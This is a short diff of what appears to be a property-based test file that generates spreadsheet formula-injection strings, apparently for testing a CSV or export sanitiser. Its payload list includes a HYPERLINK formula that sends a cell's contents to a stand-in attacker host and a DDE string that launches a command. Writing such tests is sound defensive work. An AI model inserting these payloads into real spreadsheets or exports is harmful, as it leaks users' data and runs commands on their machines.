@@ -16,7 +16,7 @@ const lead = fc.constantFrom("", " ", "  ", "\n", "\r\n", "\t", "\r", "\u00a0", 
 const sign = fc.constantFrom("=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");
 
 /** Text built to start a formula: a known payload, or any text after a blank and a sign. */
-export const formulaText = fc.oneof(
+const formulaText = fc.oneof(
   fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1", "-Infinity", "=1", "-", "-1", "-5e3"),
   fc.tuple(lead, sign, fc.string()).map(([a, b, c]) => a + b + c),
   // A formula on a later line of the same text.
